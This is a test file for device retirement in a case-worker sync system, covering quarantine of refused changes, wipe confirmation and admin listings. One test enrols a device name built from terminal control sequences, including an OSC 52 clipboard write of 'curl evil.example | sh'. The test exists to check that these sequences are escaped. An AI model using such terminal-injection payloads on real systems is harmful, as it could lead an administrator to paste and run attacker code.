/**
 * Retirement never loses data and never stalls (issue 12, docs/sync-protocol.md "Retirement"):
 * a retired case worker's phone holds a case entry for a household that moved to another office
 * meanwhile, and a household edit. The retire push is answered in full: what the hub refuses is
 * in its quarantine with the change as sent, the device says it wipes, and the admin sees it all.
 */
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { API, type PushResponse } from '../../src/protocol/sync';
import { runAdminCommand } from '../../src/server/admin-commands';
import { appendEntries, contactBody, openBody } from '../factories/emergency-case';
import { accessWire, DeviceClient, entryWire, householdWire, HUB, startApi, wireChange, type ApiHarness } from './api-harness';
import { schemaTarget } from './schema-target';

const url = process.env['TEST_DATABASE_URL'] ?? 'postgres://postgres@127.0.0.1:5432/test';
const target = schemaTarget(() => ({ connectionString: url }), 'postgres');
afterAll(() => target.dropAll());

describe('[retire] retirement', () => {
  let api: ApiHarness;
  beforeEach(async () => {
    api = await startApi(target);
  });
  afterEach(() => api.close());

  const admin = async (...argv: string[]) => {
    const lines: string[] = [];
    const [command, ...rest] = argv;
    const options: Record<string, unknown> = { hub: HUB };
    // a flag with no value after it (--show-content) is true, as parseAdminArgs reads it
    for (let i = 0; i < rest.length; ) {
      const value = rest[i + 1];
      const flag = value === undefined || value.startsWith('--');
      options[rest[i]!.replace(/^--/, '')] = flag ? true : value;
      i += flag ? 1 : 2;
    }
    await runAdminCommand(api.store, command as never, options, { out: (l) => lines.push(l), readPassword: async () => '', now: () => api.clock.now });
    return lines;
  };

  it('[retire] one change refused (scope, the household moved office) and a household edit: both quarantined, the device wipes, nothing lost', async () => {
    const coord = await api.user('coord1', 'coordinator');
    const worker = await api.user('worker-a', 'case-worker', { officeId: 'office-a' });
    const lead = await new DeviceClient(api, 'coord-phone').join(coord);
    await lead.push([householdWire('hh-1', { officeId: 'office-a' })]);
    const phone = await new DeviceClient(api, 'worker-phone').join(worker);
    expect((await phone.pullAll()).map((r) => r.entityId)).toEqual(['hh-1']);

    // Written offline on the worker's phone...
    const entries = await appendEntries([], [openBody({ subject: { householdId: 'hh-1', personId: null, name: '佐藤', recipientNumber: '' } })], 'case-1');
    const offline = [
      entryWire(entries[0]!),
      householdWire('hh-1', { officeId: 'office-a', note: '夜間は長女に連絡' }, 'update'),
      accessWire('acc-1', 'hh-1', '2026-11-30T15:00:00.000Z', phone),
    ];
    // ...while the household moves to office-b and the worker leaves.
    await lead.push([householdWire('hh-1', { officeId: 'office-b' }, 'update')]);
    await api.accounts.disableUser(worker.id);
    expect((await admin('list-devices')).find((l) => l.startsWith('worker-phone'))).toContain('停止（端末からの送信待ち）');

    phone.cookie = undefined;
    const retire = await phone.push(offline, API.retirePush);
    expect(retire.status).toBe(200);
    expect(retire.body.results.map((r) => (r.status === 'refused' ? r.reason : r.status))).toEqual(['scope', 'scope', 'accepted']);
    // the same retire push again (its answer was lost) quarantines nothing twice
    const again = await phone.request<PushResponse>('POST', API.retirePush, { changes: offline.map((c, i) => ({ ...c, seq: i + 1 })) });
    expect(again.status).toBe(200);

    const quarantine = await api.store.listQuarantine(HUB);
    expect(quarantine.map((q) => [q.deviceId, q.seq, q.kind, q.entityId, q.reason])).toEqual([
      ['worker-phone', 1, 'case-entry', entries[0]!.id, 'scope'],
      ['worker-phone', 2, 'household', 'hh-1', 'scope'],
    ]);
    // the change as the device sent it: the evidence byte for byte, the edit with its note
    expect(JSON.parse(quarantine[0]!.changeJson).payload).toEqual(JSON.parse(JSON.stringify(entries[0])));
    expect(JSON.parse(quarantine[1]!.changeJson).payload.note).toBe('夜間は長女に連絡');
    expect((await admin('list-devices')).find((l) => l.startsWith('worker-phone'))).toContain('送信済み');

    // everything answered: the device says it wipes
    const done = await phone.request('POST', API.retireDone, { refused: 2 });
    expect(done.status).toBe(204);
    const row = (await admin('list-devices')).find((l) => l.startsWith('worker-phone'))!;
    // in Japan time, as every admin listing
    expect(row).toMatch(/消去済み \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+09:00/);
    expect(row).toContain('隔離 2件（未対応）');
    expect((await admin('list-devices')).find((l) => l.startsWith('coord-phone'))).toContain('有効');

    // the admin reads and resolves; the row stays
    // the rows without what they hold (要配慮個人情報), then one row's change when asked for
    const listed = await admin('list-quarantine');
    expect(listed).toHaveLength(3);
    expect(listed.join('\n')).not.toContain('夜間は長女に連絡');
    expect(listed[2]).toContain('--show-content');
    const one = await admin('list-quarantine', '--id', String(quarantine[1]!.id), '--show-content');
    expect(one).toHaveLength(1);
    expect(one[0]).toContain('夜間は長女に連絡');
    await admin('resolve-quarantine', '--id', String(quarantine[1]!.id), '--note', '事業所Bの担当者が入力し直した', '--by', '管理 花子');
    expect((await api.store.listQuarantine(HUB))[1]).toMatchObject({ resolution: '事業所Bの担当者が入力し直した' });
    // who closed it is in the audit, with the note (migration 24)
    expect((await api.store.listAuditTrail(HUB, 1))[0]).toMatchObject({ action: 'resolve-quarantine', subject: String(quarantine[1]!.id), detail: 'note=事業所Bの担当者が入力し直した', by: '管理 花子 (run by unknown)' });
    // a wiped phone is not brought back: it joins again
    await expect(admin('enable-device', '--device', 'worker-phone')).rejects.toThrow(/データを消去しました.*参加し直してください/s);
    expect((await admin('list-devices')).find((l) => l.startsWith('worker-phone'))).toContain('隔離 1件（未対応）');
    await expect(admin('resolve-quarantine', '--id', String(quarantine[1]!.id), '--note', 'again')).rejects.toThrow(/not found/);
  });

  it('[retire] list-devices prints the id and the name a device chose escaped: no control sequence reaches the terminal', async () => {
    const coord = await api.user('coord1', 'coordinator');
    // an OSC 52 clipboard write ("curl evil.example | sh"), a newline, and in the id a screen
    // clear, a one-character C1 CSI and a right-to-left override
    const phone = new DeviceClient(api, 'evil\u001b[2J\u009b31m\u202ephone');
    expect((await phone.signIn(coord)).status).toBe(200);
    expect((await phone.enrol('\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007オンコール携帯\n2')).status).toBe(200);
    const row = (await admin('list-devices')).find((l) => l.startsWith('evil'))!;
    // (registered and last seen between the login and the seq: list-devices's own test checks them)
    const japanTime = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+09:00$/);
    expect(row.split('\t')).toEqual(['evil\\x1b[2J\\x9b31m\\u202ephone', '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07オンコール携帯\\x0a2', 'coord1', japanTime, japanTime, 'seq 0', '有効']);
    expect(row).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
  });

  it('[retire] a disabled coordinator\'s phone sends its evidence, not a 請求済み or its 取消: that is quarantined, the month stays as it was', async () => {
    const coord = await api.user('coord1', 'coordinator');
    const phone = await new DeviceClient(api, 'coord-phone').join(coord);
    const close = (id: string, body: Record<string, unknown>) =>
      wireChange(
        'month-close',
        id,
        { id, officeId: 'office-a', month: '2026-11', recordedAt: '2026-12-08T01:00:00.000Z', recordedBy: { userId: phone.vaultUserId, name: '鈴木 主任' }, deviceId: phone.deviceId, body },
        'append',
      );
    const office = { name: '相談支援センターA', officeNumber: '1210100001', updatedAt: '2026-11-01T00:00:00.000Z' };
    const sent = { type: 'close', sentOn: '2026-12-08', encoding: 'utf-8-bom', office, cases: [], summary: [], persons: 0, count: 0, units: 0, exports: [] };
    const closed = await phone.push([close('close-1', sent)]);
    expect(closed.body.results.map((r) => r.status)).toEqual(['accepted']);
    const entries = await phone.caseEntries('case-1', [openBody()]);
    await api.accounts.disableUser(coord.id);

    phone.cookie = undefined;
    const retire = await phone.push([entryWire(entries[0]!), close('close-2', { type: 'cancel', cancels: 'close-1', reason: '誤って請求済みにした' })], API.retirePush);
    expect(retire.status).toBe(200);
    expect(retire.body.results.map((r) => (r.status === 'refused' ? r.reason : r.status))).toEqual(['accepted', 'scope']);
    expect((await api.store.listQuarantine(HUB)).map((q) => [q.kind, q.entityId, q.reason])).toEqual([['month-close', 'close-2', 'scope']]);
    // the office's colleagues still see November 請求済み, with no 取消
    const colleague = await new DeviceClient(api, 'office-phone').join(await api.user('coord2', 'coordinator'));
    expect((await colleague.pullAll()).filter((r) => r.kind === 'month-close').map((r) => r.entityId)).toEqual(['close-1']);
  });

  it('[retire] evidence recorded after the stop, or sent more than 30 days after it, is kept for the admin, not taken: the stopped phone\'s secret adds no claimable case', async () => {
    const worker = await api.user('worker-a', 'case-worker', { officeId: 'office-a' });
    const phone = await new DeviceClient(api, 'worker-phone').join(worker);
    const before = await phone.caseEntries('case-1', [openBody()]);
    await api.accounts.disableUser(worker.id);
    const stoppedAt = (await api.store.findUser(worker.id))!.disabledAt!;
    expect(stoppedAt).toBeInstanceOf(Date);
    // written on the phone after the stop: a new case, and a call continuing the one from before
    const after = await phone.caseEntries('case-2', [{ body: openBody(), at: new Date(stoppedAt.getTime() + 3_600_000).toISOString() }]);
    const call = await phone.caseEntries('case-1', [{ body: contactBody(), at: new Date(stoppedAt.getTime() + 7_200_000).toISOString() }], before);

    phone.cookie = undefined;
    const retire = await phone.push([entryWire(before[0]!), entryWire(after[0]!), entryWire(call[1]!)], API.retirePush);
    expect(retire.body.results.map((r) => (r.status === 'refused' ? r.reason : r.status))).toEqual(['accepted', 'scope', 'scope']);
    const kept = await api.store.listQuarantine(HUB);
    expect(kept.map((q) => [q.entityId, q.reason])).toEqual([
      [after[0]!.id, 'scope'],
      [call[1]!.id, 'scope'],
    ]);
    expect(kept[0]!.detail).toContain('after the device or its author was stopped');

    // The phone found again 31 days after the stop: what it sends is kept, not taken, however it is dated.
    const late = await phone.caseEntries('case-3', [{ body: openBody(), at: new Date(stoppedAt.getTime() - 3_600_000).toISOString() }]);
    api.clock.now = new Date(stoppedAt.getTime() + 31 * 86_400_000);
    const lateAnswer = await phone.push([entryWire(late[0]!)], API.retirePush);
    expect(lateAnswer.body.results.map((r) => (r.status === 'refused' ? r.reason : r.status))).toEqual(['scope']);
    expect((await api.store.listQuarantine(HUB)).at(-1)!.detail).toMatch(/sent 31 days after/);
    // the access log still goes: who used a stopped phone, and when, is what an admin must see
    const access = await phone.push([accessWire('acc-late', 'hh-1', new Date(stoppedAt.getTime() + 86_400_000).toISOString(), phone)], API.retirePush);
    expect(access.body.results.map((r) => r.status)).toEqual(['accepted']);
  });

  it('[retire] only a retired device may say it wipes, with its own secret', async () => {
    const coord = await api.user('coord1', 'coordinator');
    const phone = await new DeviceClient(api, 'phone-1').join(coord);
    expect((await phone.request('POST', API.retireDone, { refused: 0 })).status).toBe(403);
    await api.accounts.disableDevice('phone-1');
    const secret = phone.secret;
    phone.secret = 'B'.repeat(43);
    expect((await phone.request('POST', API.retireDone, { refused: 0 })).status).toBe(403);
    phone.secret = secret;
    expect((await phone.request('POST', API.retireDone, { refused: 0 })).status).toBe(204);
  });
});
